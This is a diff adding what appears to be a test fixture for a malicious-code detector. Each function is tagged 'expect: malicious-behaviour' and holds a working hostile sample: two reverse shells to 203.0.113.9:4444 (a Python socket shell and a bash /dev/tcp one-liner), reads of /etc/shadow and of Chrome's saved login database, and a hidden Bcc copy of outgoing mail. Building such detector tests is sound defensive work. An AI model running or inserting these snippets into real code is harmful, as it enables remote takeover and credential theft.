@@ -1,0 +1,35 @@
+import os
+import socket
+import subprocess
+from pathlib import Path
+
+import smtplib
+from email.message import EmailMessage
+
+
+def opened() -> None:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.9", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])  # expect: malicious-behaviour
+
+
+def taken() -> str:
+    return Path("/etc/shadow").read_text()  # expect: malicious-behaviour
+
+
+def browser() -> bytes:
+    path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
+    with open(path, "rb") as file:  # expect: malicious-behaviour
+        return file.read()
+
+
+def sent() -> None:
+    message = EmailMessage()
+    message["Bcc"] = "copy@acme-static.io"  # expect: malicious-behaviour
+    smtplib.SMTP("localhost").send_message(message)
+
+
+def shell() -> None:
+    os.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")  # expect: malicious-behaviour
